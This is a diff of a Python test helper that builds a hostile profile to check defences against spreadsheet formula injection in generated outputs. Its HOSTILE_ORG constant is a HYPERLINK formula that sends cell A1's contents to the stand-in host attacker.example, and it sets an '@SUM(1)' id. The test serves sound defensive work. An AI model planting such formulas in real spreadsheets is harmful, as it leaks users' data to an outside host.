@@ -38,7 +38,9 @@ HOSTILE_ORG = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"report\")"
 
 
 def hostile_profile(**changes) -> dict:
-    return {**yaml.safe_load(PROFILE.read_text()), "org": HOSTILE_ORG, "currency": "+USD", "id": "@SUM(1)", **changes}
+    """The example with text that starts like a formula wherever free text reaches the outputs (a currency is an ISO
+    4217 code: '+USD' is refused, so it reaches none)."""
+    return {**yaml.safe_load(PROFILE.read_text()), "org": HOSTILE_ORG, "id": "@SUM(1)", **changes}
 
 
 def risky_cells(values) -> list[str]:
